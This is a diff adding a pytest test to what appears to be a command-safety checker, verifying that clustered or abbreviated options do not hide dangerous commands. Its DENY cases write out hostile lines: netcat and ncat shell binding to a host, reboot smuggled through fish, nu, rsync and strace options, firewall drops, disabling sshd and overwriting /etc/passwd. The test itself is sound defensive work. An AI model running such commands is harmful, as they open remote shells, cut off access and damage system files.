@@ -284,3 +284,33 @@ def test_operands_are_told_from_the_values_of_options(line: str, expected: Decis
 def test_whose_processes_end_is_known(line: str, expected: Decision) -> None:
     """The user whose processes are signalled is found in every spelling, and in a list."""
     assert judge(line).decision is expected
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("nc -nve /bin/sh example.org 99", DENY),
+        ("ncat -lvke /bin/bash 99", DENY),
+        ("fish -C reboot", DENY),
+        ("nu -n -c reboot", DENY),
+        ("rsync -ave 'sh -c reboot' a h:", DENY),
+        ("strace --output x reboot", DENY),
+        ("strace -U time,name reboot", DENY),
+        ("iptables -A INPUT --jump DROP", DENY),
+        ("nmcli con dow eth0", DENY),
+        ("nmcli dev disc eth0", DENY),
+        ("zypper -x rm openssh", DENY),
+        ("sv -w 5 down sshd", DENY),
+        ("install -odaemon passwd /etc/passwd", DENY),
+        ("cp -rvt /etc passwd", DENY),
+        ("nc -vz -w 3 example.org 80", ALLOW),
+        ("ncat -lvk 9000", ALLOW),
+        ("bash -n x.sh", ALLOW),
+        ("rsync -avessh a h:/srv", ALLOW),
+        ("strace --output x ls", ALLOW),
+        ("nmcli dev status", ALLOW),
+    ],
+)
+def test_clusters_and_abbreviations_hide_nothing(line: str, expected: Decision) -> None:
+    """What an option runs or a verb means is known where it is short or not the only letter."""
+    assert judge(line).decision is expected
